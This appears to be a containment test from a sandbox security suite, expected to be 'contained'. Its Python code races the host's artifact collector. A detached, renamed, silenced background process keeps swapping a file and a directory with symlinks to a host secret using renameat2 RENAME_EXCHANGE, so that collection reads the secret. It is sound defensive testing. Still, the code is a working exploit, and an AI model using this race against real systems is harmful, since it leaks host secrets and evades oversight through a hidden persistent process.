# name: artifact-swap
# area: races
# about: Keeps exchanging a file for a link to the host's secret while artifacts are collected.
# expect: contained
# canary: ATTACK_HOST_SECRET_PATH
# limits: timeout=20s

import ctypes
import os
import sys
import time

secret = os.environ.get("ATTACK_HOST_SECRET_PATH") or sys.exit(2)
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
with open("swap.txt", "w") as file:
    file.write("honest\n" * 1000)
if not os.path.lexists("swap.link"):
    os.symlink(secret, "swap.link")
os.makedirs("swap.dir", exist_ok=True)
with open("swap.dir/inner.txt", "w") as file:
    file.write("honest\n")
if not os.path.lexists("swap.dirlink"):
    os.symlink(os.path.dirname(secret), "swap.dirlink")
if os.fork() == 0:
    # Goes on after the program's end, which is when the collector walks.
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    libc.prctl(15, b"atk-daemon", 0, 0, 0)
    null = os.open("/dev/null", os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    end = time.monotonic() + 15
    while time.monotonic() < end:
        libc.renameat2(AT_FDCWD, b"swap.txt", AT_FDCWD, b"swap.link", RENAME_EXCHANGE)
        libc.renameat2(AT_FDCWD, b"swap.dir", AT_FDCWD, b"swap.dirlink", RENAME_EXCHANGE)
    os._exit(0)
os.wait()
time.sleep(0.5)
swaps = 0
for _ in range(2000):
    swaps += libc.renameat2(AT_FDCWD, b"swap.txt", AT_FDCWD, b"swap.link", RENAME_EXCHANGE) == 0
try:
    with open("swap.txt") as file:
        leaked = file.read().startswith("honest") is False
except OSError:
    leaked = False
print("ESCAPED the secret was read through the exchange" if leaked else f"BLOCKED exchanged {swaps} times")
